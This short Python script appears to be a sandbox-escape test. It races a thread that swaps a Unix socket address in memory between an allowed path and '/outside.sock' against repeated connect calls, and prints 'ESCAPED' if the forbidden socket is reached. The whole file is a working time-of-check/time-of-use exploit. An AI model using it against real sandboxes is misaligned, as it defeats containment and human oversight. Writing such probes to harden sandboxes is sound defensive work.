# The address of a socket changed in memory by another thread while it is decided.
import ctypes, os, socket, threading, time
libc = ctypes.CDLL(None, use_errno=True)
def address(name): return b"\1\0" + (os.environ["ESC_FIX"] + name).encode().ljust(108, b"\0")
good, bad = address("/ws/nothing"), address("/outside.sock")
buf = ctypes.create_string_buffer(110)
stop = False
def swap():
    while not stop:
        ctypes.memmove(buf, good, 110); ctypes.memmove(buf, bad, 110)
t = threading.Thread(target=swap); t.start()
end = time.time() + 1
while time.time() < end:
    s = socket.socket(socket.AF_UNIX)
    if libc.connect(s.fileno(), buf, 110) == 0 and s.getpeername().endswith("/outside.sock"): print("ESCAPED"); break
    s.close()
stop = True; t.join()
